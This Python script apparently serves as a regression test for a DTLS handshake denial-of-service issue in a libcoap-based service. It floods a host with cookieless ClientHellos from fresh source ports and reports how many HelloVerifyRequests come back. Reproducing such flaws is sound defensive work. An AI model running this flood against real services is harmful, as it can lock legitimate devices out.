#!/usr/bin/env python3
"""dtls_flood.py HOST PORT [COUNT] - send COUNT (default 10000) DTLS 1.2 ClientHellos, each
from a new UDP socket (a new random source port), and never return a cookie: the flood of
issue 14 that kept every device out for 30 to 40 s when libcoap held a session per source
before the cookie exchange. Prints what it sent, how many HelloVerifyRequests came back to
the sockets it still had open, and how long it took, as one line of key=value pairs."""
import os
import select
import socket
import struct
import sys
import time


def client_hello(seq):
    """A well-formed DTLS 1.2 ClientHello without a cookie (PSK suites, as a device sends)."""
    suites = struct.pack("!HHH", 0xC0A8, 0x00A8, 0x00AE)  # PSK_WITH_AES_128_CCM_8, _GCM, _CBC
    body = (b"\xfe\xfd" + os.urandom(32) + b"\x00" + b"\x00"  # version, random, sid, cookie
            + struct.pack("!H", len(suites)) + suites + b"\x01\x00")
    hs = struct.pack("!B", 1) + len(body).to_bytes(3, "big") + struct.pack("!H", 0) \
        + b"\x00\x00\x00" + len(body).to_bytes(3, "big") + body
    rec = struct.pack("!BHH", 22, 0xFEFF, 0) + seq.to_bytes(6, "big") + struct.pack("!H", len(hs))
    return rec + hs


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    count = int(sys.argv[3]) if len(sys.argv) > 3 else 10000
    keep = []          # the last sockets, to count the answers
    answers = 0
    sent = 0
    start = time.monotonic()
    for i in range(count):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind(("127.0.0.1", 0))
        try:
            s.sendto(client_hello(i), (host, port))
            sent += 1
        except OSError:
            pass
        keep.append(s)
        if len(keep) >= 200:  # bound the open sockets: count answers, then close them
            r, _, _ = select.select(keep, [], [], 0)
            answers += len(r)
            for k in keep:
                k.close()
            keep = []
    r, _, _ = select.select(keep, [], [], 0.2)
    answers += len(r)
    for k in keep:
        k.close()
    took = time.monotonic() - start
    print(f"dtls_flood: sent={sent} bytes={sent * len(client_hello(0))} "
          f"verify_requests_seen={answers} seconds={took:.2f}")


if __name__ == "__main__":
    main()
